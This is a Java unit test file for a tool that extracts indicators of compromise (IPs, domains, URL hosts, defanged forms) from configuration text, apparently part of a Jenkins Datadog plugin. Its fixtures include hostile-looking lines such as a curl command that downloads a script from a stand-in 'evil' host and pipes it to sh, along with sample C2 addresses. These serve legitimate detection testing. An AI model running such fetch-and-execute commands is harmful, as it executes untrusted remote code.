package io.jenkins.plugins.datadog.ioc.extract;

import static org.assertj.core.api.Assertions.assertThat;

import static org.assertj.core.api.Assertions.entry;

import io.jenkins.plugins.datadog.ioc.extract.Extraction.Found;
import java.net.InetAddress;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class IndicatorExtractorTest {
    private final IndicatorExtractor extractor = new IndicatorExtractor(false);

    @Test
    void findsAddressesDomainsAndUrlHostsOnceFirstOccurrenceFirst() {
        Extraction extraction = extractor.extract("""
                upstream: https://api.evil-corp.net:8443/v1?x=1
                peers: [185.220.101.4, "2606:4700::6810:85e5"]
                mirror: cdn.badhost.io  # and again: cdn.badhost.io
                script: curl -fsSL https://get.evil.sh/install | sh
                """);

        assertThat(extraction.indicators()).containsExactly(
                "api.evil-corp.net", "185.220.101.4", "2606:4700::6810:85e5", "cdn.badhost.io", "get.evil.sh");
        assertThat(extraction.skipped()).isZero();
        assertThat(extraction.found()).containsExactly(
                new Found("api.evil-corp.net", 1, 19, 1),
                new Found("185.220.101.4", 2, 9, 1),
                new Found("2606:4700::6810:85e5", 2, 25, 1),
                new Found("cdn.badhost.io", 3, 9, 2),
                new Found("get.evil.sh", 4, 28, 1));
    }

    @Test
    void linesEndWithLfCrLfOrCrAndTabsAreOneColumn() {
        Extraction extraction = extractor.extract(
                "a: 185.220.101.4\r\n\tb: evil-one.net\rc:\t\t45.33.32.156\n\nd: evil-two.org");

        assertThat(extraction.found()).containsExactly(
                new Found("185.220.101.4", 1, 4, 1),
                new Found("evil-one.net", 2, 5, 1),
                new Found("45.33.32.156", 3, 5, 1),
                new Found("evil-two.org", 5, 4, 1));
    }

    @Test
    void aUrlIsPlacedAtItsHost() {
        Extraction extraction = extractor.extract("""
                a: https://user:pw@Evil-Corp.net:8443/x@y
                b: http://[2606:4700::6810:85e5]:80/
                c: ftp://a@b@c2.bad.io/
                """);

        assertThat(extraction.found()).containsExactly(
                new Found("evil-corp.net", 1, 20, 1),
                new Found("2606:4700::6810:85e5", 2, 12, 1),
                new Found("c2.bad.io", 3, 14, 1));
    }

    @Test
    void everyMatchOfTheSameValueCounts() {
        Extraction extraction = extractor.extract("""
                2606:4700:0:0:0:0:6810:85e5 and later 2606:4700::6810:85e5
                https://EVIL.com/a http://evil.com./b evil.com
                10.0.0.1 10.0.0.1 localhost.localdomain
                """);

        assertThat(extraction.found()).containsExactly(
                new Found("2606:4700::6810:85e5", 1, 1, 2),
                new Found("evil.com", 2, 9, 3));
        assertThat(extraction.skipped()).isEqualTo(2);
    }

    @Test
    void theFirstOccurrenceIsTheEarliestWhicheverPassFindsIt() {
        // the bare name comes first, though URLs are read before names
        Extraction extraction = extractor.extract("evil.com\n185.220.101.4 https://evil.com/\n");

        assertThat(extraction.found()).containsExactly(
                new Found("evil.com", 1, 1, 2), new Found("185.220.101.4", 2, 1, 1));
    }

    @Test
    void aLargeTextIsLocatedToItsLastLine() {
        int lines = 200_000;
        StringBuilder text = new StringBuilder("first: evil-start.net\n");
        for (int i = 2; i < lines; i++) {
            text.append("key").append(i).append(": value ").append(i % 7 == 0 ? "\r\n" : "\n");
        }
        text.append("\t  last: 185.220.101.4 evil-start.net");

        Extraction extraction = extractor.extract(text.toString());

        assertThat(extraction.found()).containsExactly(
                new Found("evil-start.net", 1, 8, 2), new Found("185.220.101.4", lines, 10, 1));
    }

    @Test
    void nothingFoundNothingLocated() {
        assertThat(extractor.extract("").found()).isEmpty();
        assertThat(extractor.extract("10.0.0.1\n").locations("a.txt")).isEmpty();
    }

    @Test
    void locationsNameTheFile() {
        Extraction extraction = extractor.extract("x\n  evil.com evil.com\n");

        assertThat(extraction.locations("conf/app.yaml"))
                .containsExactly(entry("evil.com", new Location("conf/app.yaml", 2, 3, 2)));
        assertThat(extraction.locations("conf/app.yaml").get("evil.com")).hasToString("conf/app.yaml:2:3");
    }

    @Test
    void severalFilesKeepTheFirstFilesPlaceAndCountAll() {
        Extraction first = extractor.extract("a: evil.com\n");
        Extraction second = extractor.extract("185.220.101.4\nb: evil.com evil.com\n");
        List<Found> list = IndicatorLines.locate("\n185.220.101.4\nnew.org\n");

        Map<String, Location> merged = new Locations().add("one.yaml", first).add("two.yaml", second)
                .add("list.txt", list).toMap();

        assertThat(merged).containsExactly(
                entry("evil.com", new Location("one.yaml", 1, 4, 3)),
                entry("185.220.101.4", new Location("two.yaml", 1, 1, 2)),
                entry("new.org", new Location("list.txt", 3, 1, 1)));
    }

    @Test
    void skipsAndCountsPrivateReservedAndLocalOnes() {
        String text = "db: 10.0.0.5\ncache: http://localhost:6379\nsvc: api.default.svc.cluster.local\n"
                + "docs: 203.0.113.7 and example.com\nv6: fd00::1 fe80::1 ::1\npublic: 185.220.101.4\n";

        Extraction extraction = extractor.extract(text);

        assertThat(extraction.indicators()).containsExactly("185.220.101.4");
        assertThat(extraction.skipped()).isEqualTo(8);
        assertThat(new IndicatorExtractor(true).extract(text).indicators()).hasSize(9);
    }

    @Test
    void fileNamesAreNotDomainsButUrlHostsAlwaysAre() {
        Extraction extraction = extractor.extract("see values.yaml and app.py, then https://sh.rustup.rs");

        assertThat(extraction.indicators()).containsExactly("sh.rustup.rs");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "get it from hxxps://evil[.]com/x now    | evil.com       | hxxps://evil[.]com   | 21",
        "hxxp://evil(.)com                       | evil.com       | hxxp://evil(.)com    | 8",
        "hXXps[://]evil{.}com/p                  | evil.com       | hXXps[://]evil{.}com | 11",
        "http[:]//evil[dot]com                   | evil.com       | http[:]//evil[dot]com | 10",
        "fxp://files[.]evil[.]org/drop           | files.evil.org | fxp://files[.]evil[.]org | 7",
        "hxxps://evil.com/x                      | evil.com       | hxxps://evil.com     | 9",
        "c2: 91.215.85[.]147                     | 91.215.85.147  | 91.215.85[.]147      | 5",
        "c2: 91[.]215[.]85[.]147[:]8443          | 91.215.85.147  | 91[.]215[.]85[.]147  | 5",
        "beacon evil[.]co[.]uk daily             | evil.co.uk     | evil[.]co[.]uk       | 8",
        "beacon EVIL(dot)NET daily               | evil.net       | EVIL(dot)NET         | 8",
    })
    void defangedIndicatorsAreReadPlainlyAndKeepTheirWrittenForm(String text, String indicator, String written,
            int column) {
        assertThat(extractor.extract(text).found()).containsExactly(new Found(indicator, 1, column, 1, written));
    }

    @Test
    void aPlainAndADefangedWritingAreOneIndicatorWrittenAsFirstFound() {
        Extraction extraction = extractor.extract("""
                first: evil.com
                then: evil[.]com and hxxps://evil[.]com/x
                ip: 91.215.85[.]147, later 91.215.85.147
                """);

        assertThat(extraction.found()).containsExactly(
                new Found("evil.com", 1, 8, 3, null),
                new Found("91.215.85.147", 3, 5, 2, "91.215.85[.]147"));
        assertThat(extraction.locations("notes.md").get("91.215.85.147"))
                .isEqualTo(new Location("notes.md", 3, 5, 2, "91.215.85[.]147"));
    }

    @Test
    void markersOutsideNamesAreLeftAlone() {
        // a template's {{.}}, a regular expression's (.), a lone [.]: nothing to refang, nothing found
        assertThat(extractor.extract("tpl: {{.}} re: ^(.)+$ list: [.] end [dot]\n").found()).isEmpty();
        assertThat(Refanged.of("{{.}} ^(.)+$ [.] [dot]").changed()).isFalse();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "proxy_pass https://static.cdn-edge77.net;        | static.cdn-edge77.net",
        "(see https://evil.com)                           | evil.com",
        "\"https://evil.com\",                          | evil.com",
        "at https://evil.com. Then                        | evil.com",
        "urls: https://a-evil.com,https://b-evil.com      | a-evil.com b-evil.com",
        "<a href='https://evil.com/x'>                    | evil.com",
        "jdbc:postgresql://db.evil.com:5432/app           | db.evil.com",
        "git+https://git.evil.com/r.git@v1                | git.evil.com",
        "https://user:pw@evil.com/                        | evil.com",
    })
    void trailingPunctuationIsNoPartOfAUrlsHost(String text, String hosts) {
        assertThat(extractor.extract(text).indicators()).containsExactly(hosts.split(" "));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "GET /wp-login.php and /upload.aspx", // no such top-level domains
        "helm upgrade app ./chart --set image.tag=1.4.2",
        "zope.interface==6.2 and backports.zoneinfo; python_version < '3.9'",
        "COPY deploy.sh setup.py ./", // .sh and .py are top-level domains, but these are files
        "see README.md, Dockerfile.dev and Main.java", // written in mixed case
        "COPY ./scripts/get.evil.sh /opt/", // a path segment
        "name: ${app.name} and {{ include \"chart.name\" . }}", // placeholders and template actions
        "def image = docker.build('app')", // a call
        "spring.application.name=billing", // a key assigned
        "  app.kubernetes.io/name: web", // a key of a mapping
        "  \"socket.io\": \"^4.7.4\",", // a JSON key
        "com.google.cloud:google-cloud-storage:2.30.0", // a Maven coordinate
        "at com.acme.shop.checkout", // a reverse-DNS package
        "name = var.name", // a variable
        "ver v91.2.3.4, openresty-1.21.4.3, Chrome/120.0.0.0, pkg==91.2.3.4", // versions, not addresses
    })
    void filesPackagesKeysAndVariablesAreNotIndicators(String text) {
        Extraction extraction = extractor.extract(text);

        assertThat(extraction.indicators()).isEmpty();
        assertThat(extraction.skipped()).isZero();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "host: example.app                         | example.app",
        "mirror: evil.co.in, not requirements.in   | evil.co.in",
        "curl -s get.evil.sh/install -o i.sh      | get.evil.sh",
        "upstream evil.sh:8443                     | evil.sh",
        "REGISTRY=${REGISTRY:-registry.evil.io}    | registry.evil.io",
        "dial tcp: lookup c2.evil.com: no such host | c2.evil.com",
        "FROM ghcr.io/acme/app:1.2                 | ghcr.io",
        "sed 's/old.mirror.net/new.mirror.net/'    | old.mirror.net new.mirror.net",
        "src=//cdn.evil.com/x.js                   | cdn.evil.com",
        "dns: 91.2.3.4, ip=91.2.3.5                | 91.2.3.4 91.2.3.5",
    })
    void namesAndAddressesWrittenAsSuchAreTaken(String text, String indicators) {
        assertThat(extractor.extract(text).indicators()).containsExactly(indicators.split(" "));
    }

    @Test
    void urlHostsUnderNoExistingTopLevelDomainAreLocal() {
        String text = "a: http://registry.corp-net:5000/x\nb: https://api.svc-mesh/v1\nc: https://evil.com/\n";

        Extraction extraction = extractor.extract(text);

        assertThat(extraction.indicators()).containsExactly("evil.com");
        assertThat(extraction.skipped()).isEqualTo(2);
        assertThat(new IndicatorExtractor(true).extract(text).indicators())
                .containsExactly("registry.corp-net", "api.svc-mesh", "evil.com");
    }

    @Test
    void everyFileExtensionOnTheListIsATopLevelDomain() {
        // the list only holds what the public suffix list would otherwise let through
        assertThat(BareNames.FILE_EXTENSIONS).allSatisfy(extension ->
                assertThat(PublicSuffixes.registrySuffix("x." + extension)).isEqualTo(extension));
    }

    @Test
    void invalidAddressesAreNotTaken() {
        assertThat(extractor.extract("version 1.2.3.456 and 999.1.1.1 and 01.2.3.4").indicators()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "2606:4700:0:0:0:0:6810:85e5, 2606:4700::6810:85e5",
        "2001:db8:0:0:1:0:0:1, 2001:db8::1:0:0:1",
        "2001:0db8:0000:0000:0000:0000:0000:0001, 2001:db8::1",
        "0:0:0:0:0:0:0:1, ::1",
        "2a00:1450:4001:81a:0:0:0:200e, 2a00:1450:4001:81a::200e",
        "2a00:1450:4001:0:1:2:3:4, 2a00:1450:4001:0:1:2:3:4",
        "1:0:0:2:0:0:0:3, 1:0:0:2::3",
    })
    void ipv6IsWrittenAsRfc5952Says(String input, String expected) throws Exception {
        assertThat(IndicatorExtractor.canonical(InetAddress.getByName(input).getAddress())).isEqualTo(expected);
    }
}
